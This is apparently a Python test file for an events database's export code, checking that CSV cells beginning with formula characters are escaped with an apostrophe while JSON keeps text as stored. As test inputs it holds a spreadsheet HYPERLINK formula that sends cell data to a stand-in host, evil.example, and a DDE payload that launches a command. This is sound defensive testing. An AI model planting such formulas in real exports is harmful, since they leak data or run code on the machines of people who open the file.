"""Exports of hostile text: a CSV cell that a spreadsheet would run as a formula is exported as
text (leading apostrophe); JSON exports carry the text as it is (JSON is never executed)."""

from __future__ import annotations

import csv
import io
import json

from events.export import spreadsheet_safe
from events.ingest import ingest_text
from events.models import Actor, Event

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_cells_are_exported_as_text(client, tiny_gazetteer):
    report = ingest_text(
        "نیروهای دموکراتیک سوریه روستای باغوز تحتانی را از کنترل داعش خارج کردند.", outlet="@SUM(1+1)"
    ).report
    event = Event.objects.get(report=report, kind="capture_or_liberation")
    Event.objects.filter(pk=event.pk).update(evidence=FORMULA)
    Actor.objects.filter(pk=event.actor1_id).update(name="+cmd|' /C calc'!A0")
    body = b"".join(client.get("/api/events.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row))
    assert cells["notes"] == "'" + FORMULA
    assert cells["actor1"] == "'+cmd|' /C calc'!A0"
    assert not any(c[:1] in "=+@" for c in row if c)
    geojson = json.loads(b"".join(client.get("/api/events.geojson").streaming_content))
    assert geojson["features"][0]["properties"]["evidence"] == FORMULA  # as stored


def test_spreadsheet_safe():
    assert [spreadsheet_safe(v) for v in ("=1+1", "+1", "-1+1", "@A1", "\t=1", "Hajin", "", 35.5, -3, None)] == [
        "'=1+1",
        "'+1",
        "'-1+1",
        "'@A1",
        "'\t=1",
        "Hajin",
        "",
        35.5,
        -3,
        None,
    ]
